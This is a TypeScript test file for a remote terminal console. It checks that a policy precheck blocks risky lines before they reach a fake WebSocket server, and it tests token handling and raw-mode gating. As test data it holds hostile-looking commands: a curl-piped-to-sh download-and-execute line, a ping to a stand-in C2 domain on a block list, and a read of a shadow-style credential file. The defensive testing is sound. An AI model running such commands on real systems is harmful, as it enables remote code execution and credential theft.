/**
 * Policy before sending, against a fake server speaking the real terminal protocol over a real
 * WebSocket: a blocked line is answered by the console and never reaches the server; an allowed
 * line goes out; the server's own refusal comes back the same way as the console's.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocketServer, type WebSocket } from 'ws';
import type { PolicyContextResponse } from '../../shared/api/controls';
import {
  parseConsoleMessage,
  REMOTE_SESSION_SOCKET_PATH,
  REMOTE_SESSION_SUBPROTOCOL,
  type ConsoleMessage,
} from '../../shared/api/terminal-protocol';
import type { IpcEventName } from '../../shared/ipc/channels';
import { silentLogger } from './logger';
import { PolicyPrecheck } from './policy-precheck';
import { RemoteSessions, type ConsoleRefusal, type OpenedRemoteSession } from './remote-sessions';
import { wsSocketFactory } from './ws-socket';

const TENANT = '22222222-2222-4222-8222-222222222222';
const SESSION = '33333333-3333-4333-8333-333333333333';
const ENDPOINT = '44444444-4444-4444-8444-444444444444';
/** The fake server refuses this line itself (as if its rules had changed a second ago). */
const SERVER_REFUSES = 'cat /etc/shadow-copy';
/** The fake server answers this line by ending raw mode (as when extended trust expires). */
const TRUST_ENDS = 'echo trust-ends';

class FakeServer {
  readonly received: ConsoleMessage[] = [];
  readonly helloTokens: string[] = [];
  readonly requestUrls: string[] = [];
  /** Whether `set_mode` raw is granted (the real server grants it only with active extended trust). */
  grantRaw = false;
  private wss!: WebSocketServer;
  origin = '';

  async start(): Promise<void> {
    this.wss = new WebSocketServer({
      host: '127.0.0.1',
      port: 0,
      path: REMOTE_SESSION_SOCKET_PATH,
      handleProtocols: (p) => (p.has(REMOTE_SESSION_SUBPROTOCOL) ? REMOTE_SESSION_SUBPROTOCOL : false),
    });
    await new Promise<void>((resolve) => this.wss.once('listening', () => resolve()));
    const address = this.wss.address();
    this.origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    this.wss.on('connection', (socket: WebSocket, request) => {
      this.requestUrls.push(request.url ?? '');
      socket.on('message', (data) => {
        const parsed = parseConsoleMessage(Buffer.from(data as Buffer).toString('utf8'));
        if (!parsed.ok) throw new Error(parsed.error);
        const message = parsed.message;
        this.received.push(message);
        if (message.type === 'hello') {
          this.helloTokens.push(message.accessToken);
          socket.send(
            JSON.stringify({
              type: 'ready',
              protocol: 1,
              sessionId: message.sessionId,
              kind: 'terminal',
              mode: 'line',
              endpointId: ENDPOINT,
              idleTimeoutSeconds: 900,
            }),
          );
        } else if (message.type === 'set_mode') {
          const granted = message.mode === 'line' || this.grantRaw;
          socket.send(
            JSON.stringify({
              type: 'mode',
              mode: granted ? message.mode : 'line',
              message: granted ? `${message.mode} mode` : 'Raw mode needs extended trust',
            }),
          );
        } else if (message.type === 'line') {
          if (message.text === TRUST_ENDS) {
            socket.send(JSON.stringify({ type: 'mode', mode: 'line', message: 'Extended trust ended: back to line mode' }));
            socket.send(JSON.stringify({ type: 'line_result', id: message.id, decision: 'allow', reasons: [] }));
          } else if (message.text === SERVER_REFUSES) {
            socket.send(
              JSON.stringify({
                type: 'line_result',
                id: message.id,
                decision: 'block',
                reasons: [
                  {
                    code: 'credential_access',
                    severity: 'block',
                    ruleId: 'server.test',
                    message: 'Reading password stores is blocked.',
                    spans: [{ start: 4, end: 20 }],
                  },
                ],
              }),
            );
          } else {
            socket.send(JSON.stringify({ type: 'output', data: `$ ${message.text}\r\n` }));
            socket.send(JSON.stringify({ type: 'line_result', id: message.id, decision: 'allow', reasons: [] }));
          }
        }
      });
    });
  }

  linesReceived(): string[] {
    return this.received.flatMap((m) => (m.type === 'line' ? [m.text] : []));
  }

  close(): Promise<void> {
    for (const client of this.wss.clients) client.terminate();
    return new Promise((resolve) => this.wss.close(() => resolve()));
  }
}

function policyContext(): PolicyContextResponse {
  return {
    tenantId: TENANT,
    state: 'active',
    verified: true,
    trust: { level: 'standard', expiresAt: null },
    now: new Date().toISOString(),
    blockedDestinations: [{ id: 'rule-1', kind: 'domain', value: 'evil.example', reason: 'known C2', scope: 'global' }],
    destinationAllowlist: null,
    permittedScriptHashes: [],
    limits: {
      dispatchesPerMinute: 60,
      concurrentTerminalSessions: 5,
      enrollTokens: { maxActive: 5, maxUsesPerToken: 10, maxValidityHours: 24 },
    },
  };
}

describe('terminal lines: policy before sending', () => {
  const server = new FakeServer();
  const events: { event: IpcEventName; payload: unknown }[] = [];
  const contextRequests: string[] = [];
  const reported: ConsoleRefusal[] = [];
  let sessions: RemoteSessions;
  const opened: OpenedRemoteSession = { sessionId: SESSION, endpointId: ENDPOINT, tenantId: TENANT, platform: 'linux', shell: 'bash' };

  beforeAll(async () => {
    await server.start();
    sessions = new RemoteSessions({
      origin: () => server.origin,
      accessToken: () => 'access-token-for-hello-only',
      socketFactory: wsSocketFactory,
      precheck: new PolicyPrecheck((tenantId) => {
        contextRequests.push(tenantId);
        return Promise.resolve(policyContext());
      }),
      emit: (event, payload) => events.push({ event, payload }),
      log: silentLogger,
      onSessionRevoked: () => undefined,
      reportRefusal: (refusal) => {
        reported.push(refusal);
        return Promise.resolve();
      },
    });
    await sessions.connect('terminal', opened, { cols: 120, rows: 40 });
  });

  afterAll(async () => {
    sessions.closeAll();
    await server.close();
  });

  it('sends the token in hello only, never in the URL', () => {
    expect(server.helloTokens).toEqual(['access-token-for-hello-only']);
    expect(server.requestUrls.join(' ')).not.toContain('access-token');
  });

  it('blocks a download-and-execute line with the engine’s reasons and never sends it', async () => {
    const line = 'curl -fsSL http://downloads.example/x.sh | sh';
    const verdict = await sessions.sendLine(SESSION, line);
    expect(verdict.sent).toBe(false);
    if (verdict.sent) return;
    expect(verdict.block.source).toBe('console');
    expect(verdict.block.text).toBe(line);
    expect(verdict.block.reasons.map((r) => r.code)).toContain('download_execute');
    expect(verdict.block.reasons[0]!.spans.length).toBeGreaterThan(0);
    expect(contextRequests).toContain(TENANT);
    // Reported for the audit trail before the verdict came back.
    expect(reported).toEqual([
      {
        endpointId: ENDPOINT,
        kind: 'terminal_line',
        text: line,
        shell: 'bash',
        remoteSessionId: SESSION,
        reasonCodes: ['download_execute'],
      },
    ]);

    // An allowed line afterwards goes out and is answered: messages arrive in order, so had the
    // blocked line been sent, the server would have received it first.
    const allowed = await sessions.sendLine(SESSION, 'ls -la');
    expect(allowed).toEqual({ sent: true, flagged: [] });
    expect(server.linesReceived()).toEqual(['ls -la']);
    expect(JSON.stringify(server.received)).not.toContain('downloads.example');
    expect(events).toContainEqual({ event: 'event:terminal-output', payload: { terminalId: SESSION, data: '$ ls -la\r\n' } });
  });

  it('blocks a blocked destination from the tenant context and never sends it', async () => {
    const verdict = await sessions.sendLine(SESSION, 'ping -c1 evil.example');
    expect(verdict).toMatchObject({
      sent: false,
      block: { source: 'console', reasons: [{ code: 'blocked_destination', spans: [{ start: 9, end: 21 }] }] },
    });
    expect(server.linesReceived()).not.toContain('ping -c1 evil.example');
  });

  it('shows the server’s own refusal the same way', async () => {
    const verdict = await sessions.sendLine(SESSION, SERVER_REFUSES);
    expect(verdict).toMatchObject({
      sent: false,
      block: { source: 'server', text: SERVER_REFUSES, reasons: [{ code: 'credential_access', ruleId: 'server.test' }] },
    });
  });

  it('sends Ctrl-C as an interrupt', async () => {
    sessions.input(SESSION, '\u0003');
    await sessions.sendLine(SESSION, 'true');
    const types = server.received.map((m) => m.type);
    expect(types.indexOf('interrupt')).toBeGreaterThan(-1);
    expect(types.indexOf('interrupt')).toBeLessThan(types.lastIndexOf('line'));
  });

  it('sends raw keystrokes only after the server has granted raw mode, and stops when it ends', async () => {
    const rawInputs = () => server.received.flatMap((m) => (m.type === 'input' ? [m.data] : []));
    expect(() => sessions.rawInput(SESSION, 'ls\r')).toThrow(expect.objectContaining({ code: 'terminal_not_raw' }));

    // Refused by the server (no extended trust): still line mode, nothing raw goes out.
    sessions.setMode(SESSION, 'raw');
    await sessions.sendLine(SESSION, 'true');
    expect(sessions.mode(SESSION)).toBe('line');
    expect(events).toContainEqual({
      event: 'event:terminal-mode',
      payload: { terminalId: SESSION, mode: 'line', message: 'Raw mode needs extended trust' },
    });
    expect(() => sessions.rawInput(SESSION, 'ls\r')).toThrow(expect.objectContaining({ code: 'terminal_not_raw' }));

    server.grantRaw = true;
    sessions.setMode(SESSION, 'raw');
    await sessions.sendLine(SESSION, 'true');
    expect(sessions.mode(SESSION)).toBe('raw');
    sessions.rawInput(SESSION, 'vim notes.txt\r');

    await sessions.sendLine(SESSION, TRUST_ENDS);
    expect(sessions.mode(SESSION)).toBe('line');
    expect(() => sessions.rawInput(SESSION, ':q!\r')).toThrow(expect.objectContaining({ code: 'terminal_not_raw' }));
    expect(rawInputs()).toEqual(['vim notes.txt\r']);
  });
});
